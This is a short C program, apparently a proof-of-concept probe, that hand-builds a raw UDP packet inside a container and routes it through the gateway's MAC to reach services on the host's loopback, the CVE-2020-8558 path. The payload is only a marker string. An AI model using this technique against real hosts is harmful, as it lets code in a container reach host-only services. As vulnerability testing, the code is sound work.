/* localnet: an attacker's packet from inside a container (CAP_NET_RAW, Docker's default): one
 * UDP datagram to DEST_IP:PORT, handed to eth0 with the gateway's MAC as its link destination, so
 * that the host routes it itself. With DEST_IP 127.0.0.1 it aims at a service the host keeps on
 * its loopback (CVE-2020-8558's way in, once a bridge has route_localnet=1).
 * usage: localnet GATEWAY_MAC SOURCE_IP DEST_IP PORT */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

static unsigned short checksum(const void *data, int length) {
	const unsigned short *words = data;
	unsigned long sum = 0;
	for (; length > 1; length -= 2) sum += *words++;
	if (length == 1) sum += *(const unsigned char *)words;
	while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
	return (unsigned short)~sum;
}

int main(int argc, char **argv) {
	if (argc != 5) {
		fprintf(stderr, "usage: localnet GATEWAY_MAC SOURCE_IP DEST_IP PORT\n");
		return 2;
	}
	int fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
	if (fd < 0) {
		perror("socket");
		return 1;
	}
	struct sockaddr_ll to = {0};
	to.sll_family = AF_PACKET;
	to.sll_protocol = htons(ETH_P_IP);
	to.sll_ifindex = (int)if_nametoindex("eth0");
	to.sll_halen = 6;
	unsigned int mac[6];
	if (sscanf(argv[1], "%x:%x:%x:%x:%x:%x", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) != 6) return 2;
	for (int i = 0; i < 6; i++) to.sll_addr[i] = (unsigned char)mac[i];

	const char payload[] = "minic-localnet-probe";
	unsigned char packet[sizeof(struct iphdr) + sizeof(struct udphdr) + sizeof(payload)];
	memset(packet, 0, sizeof(packet));
	struct iphdr *ip = (struct iphdr *)packet;
	struct udphdr *udp = (struct udphdr *)(packet + sizeof(struct iphdr));
	ip->version = 4;
	ip->ihl = 5;
	ip->ttl = 64;
	ip->protocol = IPPROTO_UDP;
	ip->tot_len = htons(sizeof(packet));
	inet_pton(AF_INET, argv[2], &ip->saddr);
	inet_pton(AF_INET, argv[3], &ip->daddr);
	ip->check = checksum(ip, sizeof(struct iphdr));
	udp->source = htons(40000);
	udp->dest = htons((unsigned short)atoi(argv[4]));
	udp->len = htons(sizeof(struct udphdr) + sizeof(payload));
	udp->check = 0; /* optional over IPv4 */
	memcpy(packet + sizeof(struct iphdr) + sizeof(struct udphdr), payload, sizeof(payload));
	if (sendto(fd, packet, sizeof(packet), 0, (struct sockaddr *)&to, sizeof(to)) < 0) {
		perror("sendto");
		return 1;
	}
	return 0;
}
